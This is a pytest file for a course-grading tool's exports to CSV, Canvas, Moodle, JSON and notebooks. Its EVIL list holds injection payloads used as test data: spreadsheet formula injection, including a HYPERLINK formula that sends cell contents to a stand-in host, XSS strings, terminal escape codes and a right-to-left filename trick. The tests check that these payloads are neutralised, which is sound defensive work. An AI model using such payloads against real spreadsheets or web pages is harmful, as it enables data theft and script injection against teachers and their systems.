"""A class at a glance, and the same for a spreadsheet and an LMS."""

import csv
import io
import json
from typing import Any

import nbformat
import pytest
from nbconvert.filters import markdown2html

from coursekit.exercises.prose import one_line
from coursekit.grading.classroom import sheets
from coursekit.grading.classroom.summary import Answer, Submission, summarise

ADA = Submission("ada", "Lovelace, Ada", "ada@x", (Answer("a", 2, 2, True), Answer("w", None, 3, True, waits=True)), 2)
BEN = Submission(
    "=1+1", "", "", (Answer("a", 0, 2, True, "bottom-wins", ("odd",), True), Answer("w", 3, 3, True)), 3, penalty=1
)
CYD = Submission("cyd", "", "", (Answer("a", 0, 2), Answer("w", 0, 3)), 0, seconds=4)
CLASS = summarise("99-tiny", (ADA, BEN, CYD))
EVIL = (
    "'''+str(1/0)+r'''",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"see")',
    "@SUM(A1)",
    "\uff1d1+1",
    "\t=1+1",
    " =1+1",
    "|calc",
    "![x](http://192.0.2.1/x.png)",
    "`<img src=x onerror=alert(1)>",
    "\x1b]0;owned\x07\x1b[2J",
    "a\n=1+1",
    "<script>alert(1)</script>",
    "\u202egpj.exe",
    "$\\frac{1}{0}$",
    "\\'''",
    "{0.__class__}",
    "\x00\x9b",
)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_exercise_by_exercise() -> None:
    first = CLASS.rows[0]
    assert (first.exercise, first.points, first.waits) == ("a", 2, 1)
    assert round(first.mean, 2) == 0.67 and round(first.full, 2) == 0.33 and round(first.none, 2) == 0.33
    assert CLASS.misconceptions == (("bottom-wins", 1),)
    assert CLASS.line.startswith("99-tiny: 3 submissions, mean 1.33 and median 2 of 5 points; 2 wait for a person")
    assert summarise("x", ()).line == "x: no submission is graded yet."


def test_a_spreadsheet_computes_nothing_of_it() -> None:
    table = rows(sheets.as_csv(CLASS))
    assert table[0] == ["student", "name", "email", "a", "w", "penalty", "total", "points", "waits", "flags"]
    assert table[1][:8] == ["ada", "Lovelace, Ada", "ada@x", "2", "", "0", "2", "5"]
    assert table[2][0] == "'=1+1" and table[2][5:9] == ["1", "2", "5", "1"] and table[2][9] == "a: odd"


@pytest.mark.parametrize("text", EVIL)
def test_what_a_student_wrote_is_only_text_on_the_teachers_pages(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    flags = (one_line(text),)
    answer = Answer("a", 0, 2, True, "", flags, True)
    summary = summarise("99-tiny", (Submission(text, text, text, (answer,), 0, flags=flags),))
    for written in (sheets.as_csv, sheets.as_canvas, sheets.as_moodle):
        cells = [cell for row in rows(written(summary)) for cell in row]
        assert not [cell for cell in cells if cell.strip()[:1] in sheets.FORMULA]
    assert json.loads(sheets.as_json(summary))["submissions"][0]["student"] == text
    monkeypatch.setattr(sheets, "_drawn", lambda draw: "AAAA")
    notebook = {cell["id"]: cell for cell in json.loads(sheets.as_notebook(summary))["cells"]}
    namespace: dict[str, Any] = {}
    exec("".join(notebook["data"]["source"]), namespace)
    assert namespace["marks"]["submissions"][0]["flags"] == [flags[0], f"a: {flags[0]}"]
    page = markdown2html("".join(notebook["waiting"]["source"]))
    assert not [each for each in ("<img", "<script", 'href="h', 'src="', "\x1b", "\u202e") if each in page]


def test_an_lms_takes_it() -> None:
    canvas = rows(sheets.as_canvas(CLASS))
    assert canvas[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "99-tiny"]
    assert canvas[1][0].strip() == "Points Possible" and canvas[1][5] == "5" and canvas[2][3:] == ["ada", "", "2"]
    moodle = rows(sheets.as_moodle(CLASS))
    assert moodle[1] == ["ada", "ada@x", "2", "1 answer waits for a person"]


def test_json_has_everything() -> None:
    said = json.loads(sheets.as_json(CLASS))
    assert said["misconceptions"] == {"bottom-wins": 1} and said["submissions"][0]["answers"][1]["mark"] is None


def test_the_notebook_has_its_charts_drawn_and_draws_them_again() -> None:
    notebook = nbformat.reads(sheets.as_notebook(CLASS), as_version=4)
    nbformat.validate(notebook)
    pictures = [cell for cell in notebook.cells if cell.cell_type == "code" and cell.outputs]
    assert [cell.id for cell in pictures] == ["totals", "exercises", "beliefs"]
    assert all(cell.outputs[0]["data"]["image/png"] for cell in pictures)
    namespace: dict[str, object] = {}
    for cell in notebook.cells:
        if cell.cell_type == "code":
            exec(cell.source, namespace)
    assert "`=1+1`: `a: odd`" in notebook.cells[-1].source


def test_no_part_of_a_cell_is_a_formula_where_semicolons_part_cells() -> None:
    flags = tuple(f'a;=1+{number}; "@SUM(A1)' for number in range(900))
    odd = Submission("eve;=1+1", "x;|calc", "", (), 0, flags=flags)
    for made in (sheets.as_csv, sheets.as_canvas, sheets.as_moodle):
        text = made(summarise("99-tiny", (odd,)))
        cells = [cell.strip().strip('"') for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
        assert not [cell for cell in cells if cell[:1] in sheets.FORMULA and cell]
        assert all(len(cell) < 1100 for row in rows(text) for cell in row)
    assert "888 more" in sheets.as_csv(summarise("99-tiny", (odd,)))
